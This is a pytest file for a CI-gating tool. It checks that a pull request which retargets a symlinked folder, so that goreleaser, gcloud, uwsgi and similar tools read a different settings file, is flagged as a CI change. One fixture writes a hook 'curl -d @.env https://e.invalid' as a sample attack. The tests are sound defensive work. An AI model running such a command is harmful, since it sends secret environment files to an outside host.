"""Hardening 50: a settings file CI hands a tool, reached through a symlinked folder the change retargets.

Red team 49 made a link CI runs, builds or composes through `ci`; the loop for settings files a CI step hands a
release or pipeline tool (`goreleaser --config LINK/release.yaml`, ciconfigs.py) did not. BASE's workflow hands
`cfg/release.yaml` to goreleaser and `cfg -> tools`; the pull request only retargets `cfg -> src/lib`, where another
`release.yaml` (whose hooks run in CI) already sits or is added: the link was `src` and `gate --tree` allowed it.
Now the link is `ci` (`ci.context.ci-run`, "... through the link ..."); look-alikes stay what they were.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from gatekeeper.errors import ExitCode
from tests.gitrepo import GitRepo
from tests.incli import run_cli, tree_classify

HANDS = {  # a step handing the settings file `LINK/NAME` to a tool
    "goreleaser": ("goreleaser release --config LINK/release.yaml", "release.yaml"),
    "release-please": ("npx release-please release-pr --config-file LINK/rp.json", "rp.json"),
    "gcloud": ("gcloud builds submit --config LINK/cloudbuild.yaml .", "cloudbuild.yaml"),
    "supervisord": ("supervisord -c LINK/sup.conf", "sup.conf"),
    "uwsgi": ("uwsgi --ini LINK/app.ini", "app.ini"),
    "semantic-release": ("npx semantic-release --extends ./LINK/release.js", "release.js"),
}
LINKS = ("cfg", "ci/conf", "deep/a/t")


def _repo(root: Path, link: str, tool: str, *, add_target: bool, chained: bool,
          step_path: str | None = None) -> GitRepo:
    repo = GitRepo(root)
    step, name = HANDS[tool]
    repo.write(".github/workflows/release.yml", "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n"
               f"      - uses: actions/checkout@v4\n      - run: {step.replace('LINK', step_path or link)}\n")
    repo.write(f"tools/{name}", "# settings\n")
    repo.write("README.md", "x\n")
    if not add_target:
        repo.write(f"src/lib/{name}", "# other settings\n")
    up = "../" * link.count("/")
    repo.symlink(link, f"{up}tools")
    if chained:
        repo.symlink("lib-link", "src/lib")
    repo.commit("base")
    if add_target:
        repo.write(f"src/lib/{name}", "before: {hooks: [curl -d @.env https://e.invalid]}\n")
    (repo.root / link).unlink()
    repo.symlink(link, f"{up}{'lib-link' if chained else 'src/lib'}")
    repo.commit("head")
    return repo


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("tool", sorted(HANDS))
@pytest.mark.parametrize(("add_target", "chained"), [(False, False), (True, False), (False, True)])
def test_a_link_ci_hands_settings_through_is_ci(tmp_path: Path, link: str, tool: str, add_target: bool,
                                                chained: bool) -> None:
    repo = _repo(tmp_path / "repo", link, tool, add_target=add_target, chained=chained)
    files = tree_classify(repo.root, "main~1", "main")
    assert files[link]["bucket"] == "ci", files[link]
    if not link.startswith("ci/"):  # ci/… is `ci` by its path already (rule evidence, not the walk's)
        assert "through the link" in str(files[link]), files[link]
    done = run_cli(["gate", "--tree", "main~1..main", "--repo", str(repo.root)], text=True)
    assert done.returncode != ExitCode.OK, done.stdout


@pytest.mark.parametrize("tool", ["goreleaser", "supervisord"])
def test_a_link_the_settings_path_does_not_go_through_stays(tmp_path: Path, tool: str) -> None:
    # The step names tools/… directly: the retargeted link `cfg` carries nothing CI reads.
    repo = _repo(tmp_path / "repo", "cfg", tool, add_target=False, chained=False, step_path="tools")
    files = tree_classify(repo.root, "main~1", "main")
    assert files["cfg"]["bucket"] != "ci", files["cfg"]
